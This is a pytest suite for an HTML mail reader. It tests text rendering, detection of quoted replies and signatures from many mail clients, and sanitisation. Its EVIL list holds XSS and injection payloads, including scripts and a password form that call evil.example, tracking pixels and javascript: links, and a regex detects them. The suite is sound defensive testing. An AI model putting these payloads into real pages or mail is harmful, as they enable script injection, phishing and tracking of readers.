"""HTML mail: harmless, readable as text, and its quotes known by structure."""

# ruff: noqa: E501 - the forms stand as they are written

import re

import pytest

from kefu.engines.mail.lines import quoted_text
from kefu.engines.mail.page import read as page
from kefu.engines.mail.reading import read
from tests.mail.build import mail, multi, part


def text(html):
    return quoted_text(page(html).lines)


READABLE = [
    ("<p>一</p><p>二</p>", "一\n\n二"),
    ("<div>一</div><div>二</div>", "一\n二"),
    ("<div>一</div><div><br></div><div>二</div>", "一\n\n二"),
    ("一<br>二<br/>三<BR>", "一\n二\n三"),
    ('<p class="MsoNormal">一</p><p class="MsoNormal">二</p>', "一\n二"),
    ('<p style="margin:0">一</p><p style="margin:0">二</p>', "一\n二"),
    ("<ul><li>一</li><li>二<ul><li>三</li></ul></li></ul>", "- 一\n- 二\n\n  - 三"),
    ("<ol><li>一<li>二</ol>", "1. 一\n2. 二"),
    ("<h1>题</h1>文", "题\n文"),
    ("<table><tr><td>姓名</td><td>张三</td></tr><tr><td>电话</td><td>123</td></tr></table>", "姓名\t张三\n电话\t123"),
    ("<table><tr><td><p>姓名</p></td><td><div>张三</div></td></tr></table>", "姓名\t张三"),
    ('<a href="http://x.example/a">这里</a>', "这里 (http://x.example/a)"),
    ('<a href="http://x.example/a">http://x.example/a</a>', "http://x.example/a"),
    ('<a href="mailto:a@b.cn">a@b.cn</a>', "a@b.cn"),
    ('<img src="cid:1" alt="图">', "[图]"),
    ("a &amp; b &lt;c&gt; &quot;d&quot; &nbsp; e &#20013;", 'a & b <c> "d"   e 中'),
    ("<pre>一\n  二\n</pre>三", "一\n  二\n三"),
    ("您好\n世界 a\n b", "您好世界 a b"),
    ("<style>p{}</style><script>x()</script><title>t</title>文", "文"),
    ('<span style="display:none">hidden</span>文', "文"),
    ("<!-- c --><![if !x]>文<![endif]><o:p></o:p>", "文"),
    ("<blockquote>缩进</blockquote>文", "缩进\n文"),
    ('<blockquote type="cite">引用<blockquote type="cite">更早</blockquote></blockquote>文', "> 引用\n>> 更早\n文"),
    ("<div><b>未<i>闭合<div>行</b>后", "未闭合\n行后"),
    ("5 < 6 && 7 > 3", "5 < 6 && 7 > 3"),
    ("", ""),
    ("<", "<"),
    ("<<<>>>", "<<<>>>"),
]


@pytest.mark.parametrize(("html", "expected"), READABLE)
def test_readable(html, expected):
    assert text(html) == expected


EVIL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src=x><applet></applet>',
    '<form action="https://evil.example"><input name=p type=password><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<div style="background:url(https://evil.example/t.gif)">x</div>',
    '<div style="position:fixed;top:0;left:0;z-index:9999">x</div>',
    '<div style="margin-top:-999px">x</div>',
    '<td background="https://evil.example/t.gif">x</td>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<img src="https://evil.example/t.gif?u=1" width="1" height="1">',
    '<img src="http://evil.example/t.gif" style="width:1px;height:1px">',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>',
    "<div id=top class=modal-backdrop name=x>x</div>",
    '<a href="//evil.example">x</a><a href="/log-out">x</a>',
    '"><img src=x onerror=alert(1)>',
    "<x onclick=alert(1)>x</x>",
    '<div style="width:expression(alert(1))">x</div>',
    "<template><script>alert(1)</script></template>",
    '<a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a>',
]  # fmt: skip
FORBIDDEN = re.compile(
    r"<(?:script|iframe|object|embed|form|input|button|meta|link|base|style|svg|math|video|template|noscript)\b|<[^>]*\son\w+\s*=|javascript:|vbscript:|file:"
    r"|<[^>]*\s(?:src|background|poster)=\"https?:|url\(|position\s*:|<[^>]*\s(?:class|id|name)=|href=\"(?:data:|/)|margin-top:\s?-|data:image/svg",
    re.IGNORECASE,
)


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize("around", ["{}", "<div>{}</div>", "<table><tr>{}</tr></table>", '<a href="http://x.example/{}">'])
def test_harmless(evil, around):
    shown = read(mail(around.format(evil), kind="text/html; charset=utf-8")).html
    assert not FORBIDDEN.search(re.sub(r'href="https?://[^"]*"', "", shown)), shown


def test_pictures_from_afar_are_put_aside():
    shown = page('<img src="https://a.example/logo.png" width="200" alt="logo"><img src="https://t.example/o.gif" width=1 height=1>').html
    assert shown.startswith('<img data-remote="https://a.example/logo.png"')
    assert "t.example" not in shown
    assert 'src="cid:1"' in page('<img src="cid:1">').html
    assert 'src="data:image/png;base64,AA=="' in page('<img src="data:image/png;base64,AA==">').html


NEW = "<div>您好，还没来水。</div><div><br></div>"
OLD = "<div>尊敬的客户：</div><div>今天停水。</div>"
QUOTES = {
    "gmail": '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">kf 于2024年1月2日周二 10:00写道：<br></div><blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px #ccc solid">{old}</blockquote></div>',
    "gmail old": '<div class="gmail_extra"><br><div class="gmail_quote">2024-01-02 10:00 GMT+08:00 kf <span dir="ltr">&lt;<a href="mailto:kf@example.com">kf@example.com</a>&gt;</span>写道:<br><blockquote class="gmail_quote" style="border-left:1px #ccc solid">{old}</blockquote></div></div>',
    "gmail forward": '<div class="gmail_quote"><div class="gmail_attr">---------- Forwarded message ---------<br>发件人： kf</div>{old}</div>',
    "qq": '<div><includetail><div>&nbsp;</div><div style="font:Verdana normal 14px;color:#000;"><div style="font-size:12px;font-family:Arial Narrow;padding:2px 0 2px 0;">------------------&nbsp;原始邮件&nbsp;------------------</div><div style="font-size:12px;background:#efefef;padding:8px;"><div><b>发件人:</b>&nbsp;"kf";</div><div><b>主题:</b>&nbsp;停水</div></div>{old}</div></includetail></div>',
    "qq without tail": '<div style="font-size:12px">------------------&nbsp;原始邮件&nbsp;------------------</div><div><div id="menu_sender"><b>发件人:</b>&nbsp;"kf"&lt;kf@example.com&gt;;</div><div><b>发送时间:</b>&nbsp;2024年1月2日(星期二) 上午10:00</div><div><b>收件人:</b>&nbsp;"zs"&lt;zs@qq.com&gt;;<wbr></div><div></div><div><b>主题:</b>&nbsp;停水</div></div><div><br></div>{old}',
    "qq new": '<div class="xm_write_script"><div class="xm_mail_oringinal_describe" style="text-align:initial">原始邮件</div><hr><div class="xm_mail_oringinal_describe">发件人：kf</div>{old}</div>',
    "qq box": '<div class="qmbox">{old}</div>',
    "163": 'At 2024-01-02 10:00:00, "kf" &lt;kf@example.com&gt; wrote:<br> <blockquote id="isReplyContent" style="PADDING-LEFT: 1ex; MARGIN: 0px 0px 0px 0.8ex; BORDER-LEFT: #ccc 1px solid">{old}</blockquote><br><br>',
    "163 zh": '<br>在 2024-01-02 10:00:00，"kf" &lt;kf@example.com&gt; 写道：<br><blockquote id="isReplyContent" style="padding-left:1ex">{old}</blockquote>',
    "netease master": '<div class="ntes-mailmaster-quote" style="padding-top: 1px"><div style="margin-top: 2em">---- 回复的原邮件 ----</div><table><tr><td>发件人</td><td>kf</td></tr></table>{old}</div>',
    "outlook web": '<div id="appendonsend"></div><hr tabindex="-1" style="display:inline-block;width:98%"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri"><b>发件人:</b> kf<br><b>发送时间:</b> 2024年1月2日 10:00<br><b>收件人:</b> zs<br><b>主题:</b> 停水</font></div>{old}',
    "outlook desktop": '<div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b><span>发件人<span lang="EN-US">:</span></span></b> kf &lt;kf@example.com&gt; <br><b>发送时间<span lang="EN-US">:</span></b> 2024年1月2日 10:00<br><b>收件人:</b> zs<br><b>主题:</b> 停水<o:p></o:p></p></div></div>{old}',
    "outlook desktop en": '<div style="border:none;border-top:solid #B5C4DF 1.0pt"><p class="MsoNormal"><b>From:</b> kf [mailto:kf@example.com] <br><b>Sent:</b> Tuesday, January 2, 2024 10:00 AM<br><b>To:</b> zs<br><b>Subject:</b> water</p></div>{old}',
    "outlook express": '<div class="OutlookMessageHeader" dir="ltr"><font face="Tahoma">-----Original Message-----</font></div>{old}',
    "outlook phone": '<div id="mail-editor-reference-message-container">{old}</div>',
    "apple": '<div><br><blockquote type="cite"><div>在 2024年1月2日，上午10:00，kf &lt;kf@example.com&gt; 写道：</div><br>{old}</blockquote></div>',
    "apple outside": '<div>On Jan 2, 2024, at 10:00 AM, kf &lt;<a href="mailto:kf@example.com">kf@example.com</a>&gt; wrote:</div><br class="Apple-interchange-newline"><blockquote type="cite">{old}</blockquote>',
    "thunderbird": '<div class="moz-cite-prefix">在 2024/1/2 10:00, kf 写道:<br></div><blockquote type="cite" cite="mid:1@x">{old}</blockquote>',
    "thunderbird forward": '<div class="moz-forward-container"><br>-------- 转发的消息 --------<table class="moz-email-headers-table"><tr><th>主题:</th><td>停水</td></tr></table>{old}</div>',
    "coremail": '<blockquote name="replyContent" class="ReferenceQuote" style="padding-left:5px;margin-left:5px;border-left:#b6b6b6 2px solid;margin-right:0;">-----原始邮件-----<br><b>发件人:</b>"kf"<br><b>主题:</b> 停水<br><br>{old}</blockquote>',
    "foxmail": '<hr style="width:210px;height:1px" color="#b5c4df" size="1" align="left"><blockquote style="margin-Top:0px;margin-Bottom:0px;margin-Left:0.5em"><div>&nbsp;</div><div style="border:none;border-top:solid #B5C4DF 1.0pt;padding:3.0pt 0cm 0cm 0cm"><div style="font-size:12px;background:#efefef"><div><b>发件人：</b>&nbsp;kf</div><div><b>发送时间：</b>&nbsp;2024-01-02 10:00</div><div><b>收件人：</b>&nbsp;zs</div><div><b>主题：</b>&nbsp;停水</div></div></div>{old}</blockquote>',
    "aliyun": '<blockquote style="margin-right:0;margin-top:0;margin-bottom:0;"><div>------------------------------------------------------------------</div><div>发件人：kf&lt;kf@example.com&gt;</div><div>发送时间：2024年1月2日(星期二) 10:00</div><div>收件人：zs&lt;zs@aliyun.com&gt;</div><div>主　题：停水</div><div><br></div>{old}</blockquote>',
    "sina": '<div>----- 原始邮件 -----<br>发件人：kf &lt;kf@example.com&gt;<br>收件人：zs<br>主题：停水<br>日期：2024年01月02日 10点00分<br></div><br>{old}',
    "yahoo": '<div id="ydp1yahoo_quoted_1" class="ydp1yahoo_quoted"></div><div id="yahoo_quoted_123" class="yahoo_quoted"><div>在 2024年1月2日星期二 上午10:00 [GMT+8]，kf 写道：</div>{old}</div>',
    "wecom": '<div><br></div><div>------------------&nbsp;Original&nbsp;------------------</div><div style="font-size:12px;background:#efefef"><div><b>From: </b>&nbsp;"kf"&lt;kf@example.com&gt;;</div><div><b>Date: </b>&nbsp;Tue, Jan 2, 2024 10:00 AM</div><div><b>To: </b>&nbsp;"zs"</div><div></div><div><b>Subject: </b>&nbsp;water</div></div>{old}',
    "feishu": '<div class="history-quote-wrapper"><div>发件人: kf</div>{old}</div>',
    "proton": '<div class="protonmail_quote">On Tuesday, January 2nd, 2024 at 10:00, kf wrote:<br><blockquote class="protonmail_quote" type="cite">{old}</blockquote></div>',
    "zimbra": '<hr id="zwchr"><b>From: </b>kf<br>{old}',
    "139": '<div id="reply139content">----邮件原文----{old}</div>',
}  # fmt: skip


@pytest.mark.parametrize("name", QUOTES)
def test_quotes_by_structure(name):
    html = NEW + QUOTES[name].format(old=OLD)
    for kind, body in (
        ("text/html; charset=utf-8", html),
        multi(part("您好，还没来水。\n\n旧文"), part(html, "text/html; charset=utf-8"), sub="alternative"),
    ):
        found = read(mail(body, kind=kind, Subject="Re: 停水"))
        if kind.startswith("text/html"):
            assert "今天停水" in found.text
            assert found.reply == "您好，还没来水。"
        elif page(html).structured:
            assert found.reply == "您好，还没来水。"
    assert read(mail(QUOTES[name].format(old=OLD), kind="text/html; charset=utf-8", Subject="Re: 停水")).reply in (
        "",
        "尊敬的客户：\n今天停水。" if name == "qq box" else "",
    )


def test_answers_between_quotes():
    html = (
        '<div class="gmail_quote"><div class="gmail_attr">kf 写道：<br></div><blockquote class="gmail_quote" style="border-left:1px solid">问题一？</blockquote><div>答一</div>'
        '<blockquote class="gmail_quote" style="border-left:1px solid">问题二？</blockquote><div>答二</div></div>'
    )
    assert read(mail(html, kind="text/html; charset=utf-8", Subject="Re: x")).reply == "答一\n\n答二"


@pytest.mark.parametrize(
    "sign",
    [
        '<div class="gmail_signature">张三<br>公司</div>',
        '<div id="Signature"><p>张三</p></div>',
        '<div class="moz-signature">-- <br>张三</div>',
        '<sign signid="1"><div>张三</div></sign>',
        '<div id="ms-outlook-mobile-signature">获取 Outlook</div>',
        '<div id="imail_signature" class="ntes-signature">张三</div>',
        '<div id="spnEditorSign">张三</div>',
        '<div class="xm_mail_content_signature">张三</div>',
        '<div id="AppleMailSignature" dir="ltr">发自我的iPhone</div>',
        "<div>发自我的iPhone</div>",
        "<div>-- </div><div>张三</div>",
    ],
)
def test_signatures_by_structure(sign):
    for html in (f"<div>好的</div>{sign}", f"<div>好的</div>{sign}{QUOTES['apple'].format(old=OLD)}"):
        found = read(mail(html, kind="text/html; charset=utf-8", Subject="Re: x"))
        assert found.reply == "好的"
        assert "张三" in found.text or "发自" in found.text or "Outlook" in found.text


def test_sentences_in_the_box_of_a_signature_were_written():
    html = '<div id="AppleMailSignature">好的，明天上午来修吧。</div><blockquote type="cite">旧</blockquote>'
    assert read(mail(html, kind="text/html; charset=utf-8", Subject="Re: x")).reply == "好的，明天上午来修吧。"
    html = '<div class="gmail_signature">张三<br>Example Co., Ltd.</div><blockquote type="cite">旧</blockquote>'
    assert read(mail(html, kind="text/html; charset=utf-8", Subject="Re: x")).reply == ""


def test_separator_of_foxmail():
    html = '<div>好的</div><hr id="FMSigSeperator"><div>张三</div><div>公司</div><blockquote><div>发件人：kf</div></blockquote>'
    assert read(mail(html, kind="text/html; charset=utf-8", Subject="Re: x")).reply == "好的"


def test_a_quote_container_around_everything_is_no_quote():
    html = '<div class="gmail_quote gmail_quote_container"><div>第一行</div><div>第二行</div></div>'
    assert read(mail(html, kind="text/html; charset=utf-8")).reply == "第一行\n第二行"
    html = '<blockquote type="cite">都在这里</blockquote>'
    assert read(mail(html, kind="text/html; charset=utf-8")).reply == "都在这里"


def test_html_of_a_mixed_mail_keeps_its_plain_parts():
    kind, body = multi(part("<p>一</p>", "text/html; charset=utf-8"), part("二 <b>"))
    assert read(mail(body, kind=kind)).html == '<p>一</p><div style="white-space:pre-wrap">二 &lt;b&gt;</div>'
